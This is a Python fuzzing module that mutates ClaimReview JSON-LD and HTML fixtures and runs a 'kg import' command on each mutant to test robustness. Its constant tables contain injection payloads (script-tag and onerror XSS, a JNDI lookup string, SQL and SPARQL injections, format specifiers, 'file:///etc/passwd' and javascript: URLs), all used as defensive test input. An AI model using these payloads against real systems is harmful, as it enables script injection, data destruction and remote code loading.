"""Mutated ClaimReview files, and the real ``kg import`` run on each: a fuzzer for issue 13.

The seeds are the ClaimReview files kg has in ``tests/fixtures/claimreview/``: two JSON-LD
files (a list, a ``@graph``), an HTML page with two ld+json blocks and kg's own export of
three reviews of the seed article. Each mutant is a seed with one to three mutations drawn by
a seeded random generator (the same seed gives the same mutants). Most act on the parsed JSON
(in an HTML page, on one of its ld+json blocks), written back with or without indentation and
escapes: wrong types, keys deleted, values emptied, huge, negative and non-finite numbers
(``1e999``, ``NaN``, 5 000 digits), nesting up to 100 000 deep, strings of up to a million
characters, text in twenty scripts, HTML, scripts and SPARQL in text, lone surrogates, ids
shared by several nodes, bad dates, bad URLs and IRIs (kg's own among them), JSON-LD keywords
and contexts, types swapped, reviews repeated, kg's internal order key. The others break the
text: characters deleted or inserted, truncation, comments, quotes, trailing commas, duplicate
keys, control characters, a BOM, UTF-16, invalid UTF-8, NUL bytes, bit flips, and in HTML
pages the ``<script>`` tags themselves.

Each mutant is given to ``kg import`` in-process (``tests/fuzz_runner.py``) on a store that
holds the seed article, so kg's own IRIs in a mutant can match claims (made afresh every 100
mutants). Used by
``tests/test_claimreview_fuzz.py`` (a fixed sample) and ``bench/fuzz_claimreview.py`` (the
full run). Usage::

    from tests.claimreview_mutations import run_all, stage
    for mutant, outcome in run_all(stage(tmp_path / "mutants"), 300, 13, tmp_path):
        print(mutant.mutations, outcome.kind, outcome.message)
"""

from __future__ import annotations

import copy
import json
import random
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tests import fuzz_runner
from tests.fuzz_runner import CONTROLS, SCRIPTS, Mutant, Outcome, Seed, flip_bits, run_kg

ROOT = Path(__file__).resolve().parent.parent
SEEDS = sorted((ROOT / "tests" / "fixtures" / "claimreview").glob("*.*"))
SEED_ANNOTATION = ROOT / "data" / "annotations" / "deepseek-stargate-mwl.yaml"
#: The import store is made afresh after this many mutants.
RESET_EVERY = 100

_BLOCK = re.compile(r'(<script type="application/ld\+json[^"]*">)(.*?)(</script>)', re.DOTALL)
_KG = "https://kg.example.org/id/"
#: Keys that kg reads: mutations aim at them half of the time.
_KEYS = ("@context", "@type", "@id", "@graph", "claimReviewed", "reviewRating", "alternateName",
         "ratingValue", "bestRating", "worstRating", "author", "name", "itemReviewed",
         "appearance", "firstAppearance", "url", "datePublished", "inLanguage", "citation",
         "sameAs", "additionalType", "reviewBody", "headline", "publisher")
_NUMBERS = ("1e999", "-1e999", "NaN", "Infinity", "-Infinity", "-0", "0", "-1", "1e-400",
            "9" * 5000, "-" + "9" * 4400, "1" + "0" * 400, "0.0000000000000000000001",
            "123456789012345678901234567890", "2.5", "5", "1", "3")
_EMPTY: tuple[Any, ...] = ("", " ", "\n\t", [], {}, None, [""], [None], [[]], [{}])
_DATES: tuple[Any, ...] = (
    "2025-13-45", "2025-02-30", "0000-00-00", "99999-01-01", "-0001-01-01", "2025", "2025-02",
    "2025-1-1", "20250203", "2025-02-03T25:61:61Z", "2025-02-03T00:00:00+99:99", "last week",
    "", "1e10", 20250203, "٢٠٢٥-٠٢-٠٣", "２０２５-０２-０３", "2025-02-03\n", "0001-01-01",
    "9999-12-31", "2025-02-29", "2024-02-29", "2025-02-03/2025-02-04", "²⁰²⁵-01-01",
    {"@value": "2025-02-03", "@type": "http://www.w3.org/2001/XMLSchema#date"},
    {"@value": "not a date", "@type": "http://www.w3.org/2001/XMLSchema#dateTime"})
_URLS = ("javascript:alert(1)", "http://", "https://", "https://a b", "file:///etc/passwd",
         "http://[::1", "ftp://x.example/", "../x", "//evil.example/x", "https://例え.jp/パス",
         "https://x.example/\u0000", "https://x.example/%00", "data:text/html,<script>x</script>",
         "urn:isbn:1", "_:b0", "mailto:a@b.example", "https://user:pass@host.example/",
         "http://127.0.0.1:1/", "https://x.example/>", "https://x.example/ }", "HTTPS://X.EXAMPLE",
         "https://x.example/" + "a" * 100_000, "https://x.example/?q=" + "%" * 50, "",
         f"{_KG}claim/deepseek-stargate-mwl/c11", f"{_KG}claim/deepseek-stargate-mwl/c99",
         f"{_KG}claim/deepseek-stargate-mwl/../c11", f"{_KG}article/deepseek-stargate-mwl",
         f"{_KG}article/UPPER-case", f"{_KG}article/", f"{_KG}entity/roy-chua",
         f"{_KG}entity/" + "x" * 300, f"{_KG}claim/x> }} ; DROP ALL ; {{ <y")
_HOSTILE_TEXT = ("<script>alert(1)</script>", "</script><script>alert(1)</script>",
                 "<img src=x onerror=alert(1)>", "&lt;b&gt;&amp;", "<!--", "]]>",
                 "\"><svg onload=alert(1)>", "{{7*7}}", "${jndi:ldap://x.example/a}",
                 "'; DROP TABLE claims; --", "> } ; INSERT DATA { <a> <b> <c> } #",
                 '"""^^<http://x.example/t>', "\\u0000", "%s%n%x", "\u202e\u2066evil\u2069",
                 "a\u200b\u200c\u200d\u2060b", "e" + "\u0301" * 500, "\ufeff", "\ud800", "\udfff x")
_CONTEXTS: tuple[Any, ...] = (
    "https://example.org/context.jsonld", None, [None, "https://schema.org"],
    {"@vocab": "http://evil.example/"}, {"@import": "https://schema.org"}, {"@version": 1.1},
    {"@version": 2}, {"@base": "javascript:alert(1)"}, {"ClaimReview": "http://evil.example/X"},
    {"@protected": True, "name": "@id"}, {"claimReviewed": {"@type": "@id"}},
    {"claimReviewed": {"@container": "@list"}}, {"@language": 5}, {"@propagate": "x"},
    ["https://schema.org", {"@vocab": None}], "HTTPS://SCHEMA.ORG", "https://schema.org/ ",
    "http://schema.org/docs/jsonldcontext.json", {"@context": {"@context": "x"}},
    ["https://schema.org"] * 200, {"name": {"@reverse": "author"}}, 5, "", [])
_KEYWORDS: tuple[tuple[str, Any], ...] = (
    ("@reverse", {"author": {"name": "x"}}), ("@graph", [{"@type": "ClaimReview"}]),
    ("@included", [{"@id": "_:x"}]), ("@nest", {"name": "y"}), ("@index", 5),
    ("@language", "zz-@@"), ("@direction", "sideways"), ("@type", {"a": 1}),
    ("@type", ["ClaimReview", "ClaimReview"]), ("@type", 5), ("@type", "@json"), ("@id", 5),
    ("@id", ""), ("@id", "@type"), ("@value", "x"), ("@list", [1, [2]]), ("@set", []),
    ("@json", {"a": 1}), ("@none", 1), ("@vocab", "x"), ("@", 1), ("@context", {"@base": 5}))
_TYPES = ("ClaimReview", "Claim", "Rating", "Organization", "Person", "schema:ClaimReview",
          "http://schema.org/ClaimReview", "https://schema.org/ClaimReview", "claimreview",
          "ClaimReview ", "_:ClaimReview", "http://evil.example/ClaimReview", "Thing", "@id")
_ORDER = "https://kg.example.org/def/import#order"
_ESCAPES = ("\\ud800", "\\udfff", "\\u0000", "\\u001b[31m", "\\uFFFE", "\\u202e", "\\ud83d",
            "\\uDBFF\\uDFFF", "\\x41", "\\z", "\\", "\\u12")
_JSON_PUNCTUATION = '{}[]:,"\\ '
_SCRIPT_TAGS = ('<script type="application/ld+json">', "<script type='application/ld+json'>",
                '<script type="APPLICATION/LD+JSON">', '<script type="text/ld+json">',
                '<script type="application/ld+json; charset=latin1">', "<script>",
                '<SCRIPT TYPE="application/ld+json">', '<script type="application/ld+json" '
                'src="https://x.example/a.json">', "<script type=application/ld+json>")


class Raw:
    """JSON text written as it is (numbers JSON cannot hold, deep nesting): a placeholder
    string in the tree, swapped for the text once the tree is written."""

    def __init__(self, text: str) -> None:
        self.text = text


def stage(folder: Path) -> list[Seed]:
    """A seed for each ClaimReview fixture; its mutants are written in ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    return [Seed(source, source.read_text(encoding="utf-8"), folder / f"mutant-{source.name}")
            for source in SEEDS]


def run_import(path: Path, store: Path) -> Outcome:
    """``kg --store STORE import PATH`` in-process (see ``tests/fuzz_runner.py``)."""
    return run_kg(["--store", str(store), "import", str(path)])


def run_all(seeds: list[Seed], count: int, seed: int, folder: Path) -> Iterator[
        tuple[Mutant, Outcome]]:
    """Each of ``count`` mutants and what ``kg import`` did with it. The store holds the seed
    article and is made afresh every RESET_EVERY mutants (in ``folder``), so that imported
    articles do not grow for the whole run."""
    seed_store = folder / "seed-store"
    outcome = run_kg(["--store", str(seed_store), "ingest", "--skip-shapes",
                      str(SEED_ANNOTATION)])
    assert outcome.kind == "ok", outcome
    store = folder / "store"
    for index, mutant in enumerate(generate(seeds, count, seed)):
        if index % RESET_EVERY == 0:
            shutil.rmtree(store, ignore_errors=True)
            shutil.copytree(seed_store, store)
        yield mutant, run_import(mutant.write(), store)


# --------------------------------------------------------------------------------------------
# Mutations of the parsed JSON: each takes the document, the placeholders and the generator,
# changes the document in place and says what it did
# --------------------------------------------------------------------------------------------

Slot = tuple[Any, Any]  # (a dict or a list, a key or an index in it)


def _slots(value: Any) -> list[Slot]:
    """Every (container, key) of the document, depth first."""
    found: list[Slot] = []
    stack = [value]
    while stack:
        node = stack.pop()
        items = node.items() if isinstance(node, dict) else enumerate(node) \
            if isinstance(node, list) else ()
        for key, item in items:
            found.append((node, key))
            stack.append(item)
    return found


def _slot(doc: Any, rng: random.Random, keys: tuple[str, ...] = _KEYS) -> Slot | None:
    """A slot, one of ``keys`` half of the time (when the document has one)."""
    slots = _slots(doc)
    named = [s for s in slots if isinstance(s[0], dict) and s[1] in keys]
    if named and (rng.random() < 0.5 or keys is not _KEYS):
        return rng.choice(named)
    return rng.choice(slots) if slots else None


def _put(doc: Any, rng: random.Random, values: tuple[Any, ...], what: str,
         keys: tuple[str, ...] = _KEYS) -> str:
    slot = _slot(doc, rng, keys)
    if slot is None:
        return f"{what}: no slot"
    container, key = slot
    value = rng.choice(values)
    container[key] = value() if callable(value) else copy.deepcopy(value)
    return f"{what} {key!r} = {_short(container[key])}"


def _short(value: Any) -> str:
    text = value.text if isinstance(value, Raw) else json.dumps(
        value, ensure_ascii=False, default=lambda raw: raw.text)
    return text if len(text) <= 40 else f"{text[:37]}... ({len(text)} chars)"


def _wrong_type(doc: Any, rng: random.Random) -> str:
    slot = _slot(doc, rng)
    if slot is None:
        return "type: no slot"
    container, key = slot
    old = container[key]
    choices: list[Callable[[], Any]] = [
        lambda: 0, lambda: -1, lambda: 3.5, lambda: True, lambda: False, lambda: None,
        lambda: [], lambda: {}, lambda: "x", lambda: [old], lambda: {"@value": old},
        lambda: {"@id": old if isinstance(old, str) else "x"}, lambda: {"@list": [old]},
        lambda: {"@set": [old]}, lambda: [old, old], lambda: {"name": old}]
    container[key] = rng.choice(choices)()
    return f"type {key!r} = {_short(container[key])}"


def _delete(doc: Any, rng: random.Random) -> str:
    slot = _slot(doc, rng)
    if slot is None:
        return "delete: no slot"
    container, key = slot
    del container[key]
    return f"delete {key!r}"


def _empty(doc: Any, rng: random.Random) -> str:
    return _put(doc, rng, _EMPTY, "empty")


def _number(doc: Any, rng: random.Random) -> str:
    numbers = tuple(lambda n=n: Raw(n) for n in _NUMBERS)
    return _put(doc, rng, numbers, "number",
                ("ratingValue", "bestRating", "worstRating", "datePublished", "@id", "name"))


def _nesting(doc: Any, rng: random.Random) -> str:
    depth = rng.choice((10, 100, 1_000, 10_000, 100_000))
    shape = rng.choice(("[]", "{}"))
    opening, closing = ('[' * depth, ']' * depth) if shape == "[]" else \
        ('{"a":' * depth, '}' * depth)
    return _put(doc, rng, (lambda: Raw(f"{opening}1{closing}"),), f"nesting {depth} {shape}")


def _long(doc: Any, rng: random.Random) -> str:
    size = rng.choice((1_000, 10_000, 100_000, 1_000_000))
    pieces = ("x", "ab ", "é", "🙂", "\n", "\u200b", "<", "Lorem ipsum ")
    piece = rng.choice(pieces)
    return _put(doc, rng, (lambda: piece * (size // len(piece)),), f"long {size} {piece!r}",
                ("claimReviewed", "name", "alternateName", "reviewBody", "headline", "url"))


def _text(doc: Any, rng: random.Random) -> str:
    def words() -> str:
        return " ".join(rng.choice(SCRIPTS) for _ in range(rng.randint(1, 4)))

    def hostile() -> str:
        return rng.choice(_HOSTILE_TEXT)

    def control() -> str:
        return "a" + rng.choice(CONTROLS) + "b"

    return _put(doc, rng, (words, hostile, control), "text",
                ("claimReviewed", "name", "alternateName", "reviewBody", "headline",
                 "inLanguage", "datePublished", "url", "@id", "@type"))


def _date(doc: Any, rng: random.Random) -> str:
    return _put(doc, rng, _DATES, "date", ("datePublished", "dateModified", "dateCreated"))


def _url(doc: Any, rng: random.Random) -> str:
    return _put(doc, rng, _URLS, "url", ("url", "@id", "sameAs", "citation", "appearance",
                                         "firstAppearance", "additionalType"))


def _nodes(doc: Any) -> list[dict]:
    return [c[k] for c, k in _slots(doc) if isinstance(c[k], dict)] + \
        ([doc] if isinstance(doc, dict) else [])


def _same_ids(doc: Any, rng: random.Random) -> str:
    nodes = _nodes(doc)
    if len(nodes) < 2:
        return "same ids: too few nodes"
    chosen = rng.sample(nodes, min(len(nodes), rng.randint(2, 4)))
    existing = [n["@id"] for n in nodes if isinstance(n.get("@id"), str)]
    iri = rng.choice(existing) if existing and rng.random() < 0.6 else rng.choice(_URLS)
    for node in chosen:
        node["@id"] = iri
    return f"same @id on {len(chosen)} nodes: {_short(iri)}"


def _replicate(doc: Any, rng: random.Random) -> str:
    times = rng.choice((2, 20, 200))
    reviews = [n for n in _nodes(doc) if n.get("@type") == "ClaimReview"]
    if not reviews:
        return "replicate: no ClaimReview"
    review = rng.choice(reviews)
    if len(json.dumps(review, default=lambda raw: raw.text)) > 50_000:
        times = 2  # a copy of a long review is enough; a file of gigabytes tests nothing
    copies = [copy.deepcopy(review) for _ in range(times)]
    if rng.random() < 0.5:
        for index, duplicate in enumerate(copies):
            if isinstance(duplicate.get("claimReviewed"), str):
                duplicate["claimReviewed"] += f" ({index})"
    holder = doc.get("@graph") if isinstance(doc, dict) else doc
    if isinstance(holder, list):
        holder.extend(copies)
    else:
        review["@reverse"] = {"isBasedOn": copies}
    return f"replicate a ClaimReview {times} times"


def _context(doc: Any, rng: random.Random) -> str:
    contexts = [n for n in _nodes(doc) if "@context" in n] or _nodes(doc)[:1]
    if not contexts:
        return "context: no node"
    node = rng.choice(contexts)
    node["@context"] = copy.deepcopy(rng.choice(_CONTEXTS))
    return f"@context = {_short(node['@context'])}"


def _keyword(doc: Any, rng: random.Random) -> str:
    nodes = _nodes(doc)
    if not nodes:
        return "keyword: no node"
    key, value = rng.choice(_KEYWORDS)
    rng.choice(nodes)[key] = copy.deepcopy(value)
    return f"keyword {key} = {_short(value)}"


def _type(doc: Any, rng: random.Random) -> str:
    nodes = _nodes(doc)
    if not nodes:
        return "type: no node"
    node = rng.choice(nodes)
    if rng.random() < 0.2:
        node.pop("@type", None)
        return "@type removed"
    node["@type"] = rng.choice(_TYPES)
    return f"@type = {node['@type']!r}"


def _order(doc: Any, rng: random.Random) -> str:
    nodes = _nodes(doc)
    if not nodes:
        return "order: no node"
    value = rng.choice(("²", "٣", -1, "10" * 1000, 0, [], "1", {"@value": "x"}))
    rng.choice(nodes)[_ORDER] = value
    return f"kg's order key = {_short(value)}"


def _swap(doc: Any, rng: random.Random) -> str:
    slots = _slots(doc)
    if len(slots) < 2:
        return "swap: too few slots"
    (a, i), (b, j) = rng.sample(slots, 2)
    if a is b and i == j:
        return "swap: same slot"
    left, right = a[i], b[j]
    a[i], b[j] = right, left
    return f"swap {i!r} and {j!r}"


def _top(doc: Any, rng: random.Random) -> Any:
    return rng.choice(("", 5, None, True, "ClaimReview", [], {}, [doc, 5, None, "x"],
                       [[doc]], {"@graph": doc}, {"@graph": {"@graph": doc}}, [doc, doc]))


_TREE_MUTATIONS = (_wrong_type, _delete, _empty, _number, _nesting, _long, _text, _date, _url,
                   _same_ids, _replicate, _context, _keyword, _type, _order, _swap)


def _write(doc: Any, rng: random.Random) -> str:
    """The document as JSON text, the placeholders swapped for their raw text."""
    raws: list[str] = []

    def placeholder(value: Any) -> Any:
        if isinstance(value, Raw):
            raws.append(value.text)
            return f"@@raw{len(raws) - 1}@@"
        if isinstance(value, dict):
            return {k: placeholder(v) for k, v in value.items()}
        if isinstance(value, list):
            return [placeholder(v) for v in value]
        return value

    text = json.dumps(placeholder(doc), ensure_ascii=rng.random() < 0.3,
                      indent=rng.choice((None, 2)))
    return re.sub(r'"@@raw(\d+)@@"', lambda m: raws[int(m[1])], text)


def _mutate_json(text: str, rng: random.Random, done: list[str]) -> str:
    doc = json.loads(text)
    if rng.random() < 0.03:
        done.append("top-level value replaced")
        doc = _top(doc, rng)
    else:
        for _ in range(rng.choices((1, 2, 3), weights=(6, 3, 1))[0]):
            done.append(rng.choice(_TREE_MUTATIONS)(doc, rng))
    return _write(doc, rng)


# --------------------------------------------------------------------------------------------
# Mutations of the text: JSON syntax, encodings, HTML
# --------------------------------------------------------------------------------------------


def _syntax(text: str, rng: random.Random) -> tuple[str, str]:
    kind = rng.choice(("delete", "insert", "truncate", "unclose", "trailing-comma", "comment",
                       "single-quotes", "bare-key", "duplicate-key", "literal", "control",
                       "escape", "duplicate-line", "delete-line", "empty"))
    at = rng.randrange(len(text) + 1)
    if kind == "delete" and text:
        at = min(at, len(text) - 1)
        return text[:at] + text[at + 1:], f"delete {text[at]!r} at {at}"
    if kind == "insert":
        char = rng.choice(_JSON_PUNCTUATION)
        return text[:at] + char + text[at:], f"insert {char!r} at {at}"
    if kind == "truncate":
        return text[:at], f"truncate at {at}"
    if kind == "unclose":
        return text.rstrip().rstrip("]}").rstrip(), "closing brackets removed"
    if kind == "trailing-comma":
        return re.sub(r"([}\]\"\d])(\s*[}\]])", r"\1,\2", text, count=3), "trailing commas"
    if kind == "comment":
        return text.replace("{", rng.choice(("{ // note\n", "{ /* note */", "{ # note\n")),
                            1), "comment"
    if kind == "single-quotes":
        return text.replace('"', "'", rng.randint(1, 20)), "single quotes"
    if kind == "bare-key":
        return re.sub(r'"(\w+)":', r"\1:", text, count=2), "bare keys"
    if kind == "duplicate-key":
        index = text.find("{", at) if text.find("{", at) >= 0 else text.find("{")
        key = rng.choice(('"claimReviewed": "another claim", ', '"@type": "Claim", ',
                          '"author": null, ', '"@id": "_:x", ', '"reviewRating": 5, '))
        return (text[:index + 1] + key + text[index + 1:], f"duplicate key {key.strip()}") \
            if index >= 0 else (text, "duplicate key: no object")
    if kind == "literal":
        literal = rng.choice(("NaN", "Infinity", "-Infinity", "undefined", "True", "null",
                              "0x1F", "01", "1.", ".5", "+1", "1e", "--1"))
        return re.sub(r"(:\s*)(\"[^\"]*\"|\d+)", lambda m: m[1] + literal, text, count=1), \
            f"literal {literal}"
    if kind == "control":
        char = rng.choice(CONTROLS)
        return text[:at] + char + text[at:], f"control {char!r} at {at}"
    if kind == "escape":
        quote = text.find('"', at)
        escape = rng.choice(_ESCAPES)
        return (text[:quote + 1] + escape + text[quote + 1:], f"escape {escape} at {quote}") \
            if quote >= 0 else (text, "escape: no string")
    lines = text.split("\n")
    index = rng.randrange(len(lines))
    if kind == "duplicate-line":
        lines.insert(index, lines[index])
        return "\n".join(lines), f"duplicate line {index + 1}"
    if kind == "delete-line":
        del lines[index]
        return "\n".join(lines), f"delete line {index + 1}"
    empty = rng.choice(("", " ", "\n", "{}", "[]", "null", "0", '""', "[{}]", "<", "<html>"))
    return empty, f"whole file {empty!r}"


def _html(text: str, rng: random.Random) -> tuple[str, str]:
    kind = rng.choice(("unclosed", "tag", "extra-block", "comment", "script-in-json",
                       "no-blocks", "cdata", "nested"))
    if kind == "unclosed":
        return text.replace("</script>", "", 1), "a </script> removed"
    if kind == "tag":
        tag = rng.choice(_SCRIPT_TAGS)
        return re.sub(r'<script type="application/ld\+json[^"]*">', lambda _: tag, text,
                      count=1), f"tag {tag}"
    if kind == "extra-block":
        body = rng.choice(("", " ", "{", "[]", "null", "5", '{"@type": "ClaimReview"}',
                           "<!-- -->", "\x00"))
        return text.replace("</body>", f'<script type="application/ld+json">{body}</script>'
                            "</body>"), f"extra block {body!r}"
    if kind == "comment":
        return text.replace('<script type="application/ld+json', '<!-- <script type='
                            '"application/ld+json', 1) + " -->", "a block commented out"
    if kind == "script-in-json":
        return text.replace('"claimReviewed": "', '"claimReviewed": "</script><script>x', 1), \
            "</script> inside a JSON string"
    if kind == "no-blocks":
        return _BLOCK.sub("", text), "every block removed"
    if kind == "cdata":
        return _BLOCK.sub(lambda m: f"{m[1]}<![CDATA[{m[2]}]]>{m[3]}", text, count=1), "CDATA"
    return _BLOCK.sub(lambda m: f"{m[1]}{m[1]}{m[2]}{m[3]}{m[3]}", text, count=1), \
        "nested script tags"


def _encode(text: str, rng: random.Random, done: list[str]) -> bytes:
    kind = rng.choices(("utf-8", "bom", "utf-16", "latin-1", "invalid", "nul"),
                       weights=(80, 4, 4, 4, 4, 4))[0]
    if kind != "utf-8":
        done.append(f"encoding {kind}")
    data = text.encode("utf-8", "surrogatepass")
    if kind == "bom":
        return b"\xef\xbb\xbf" + data
    if kind == "utf-16":
        return text.encode("utf-16", "surrogatepass")
    if kind == "latin-1":
        return text.encode("latin-1", "replace")
    at = rng.randrange(len(data) + 1)
    if kind == "invalid":
        return data[:at] + rng.choice((b"\xff", b"\xc3", b"\xe2\x82", b"\xed\xa0\x80",
                                       b"\xc0\xaf", b"\x80")) + data[at:]
    if kind == "nul":
        return data[:at] + b"\x00" + data[at:]
    return data


def mutate(text: str, rng: random.Random) -> tuple[bytes, tuple[str, ...]]:
    """``text`` (JSON or an HTML page) with one to three mutations; the bytes and what was
    done."""
    done: list[str] = []
    if text.lstrip().startswith("<"):
        blocks = list(_BLOCK.finditer(text))
        if rng.random() < 0.75 and blocks:
            block = rng.choice(blocks)
            body = _mutate_json(block[2], rng, done)
            text = text[:block.start(2)] + body + text[block.end(2):]
        else:
            text, what = _html(text, rng)
            done.append(what)
    elif rng.random() < 0.75:
        text = _mutate_json(text, rng, done)
    if not done or rng.random() < 0.2:
        text, what = _syntax(text, rng)
        done.append(what)
    data = _encode(text, rng, done)
    if rng.random() < 0.08 and data:
        data, what = flip_bits(data, rng)
        done.append(what)
    return data, tuple(done)


def generate(seeds: list[Seed], count: int, seed: int) -> Iterator[Mutant]:
    """``count`` mutants, the seeds taken in turn; the same ``seed`` gives the same mutants."""
    return fuzz_runner.generate(seeds, count, seed, mutate)
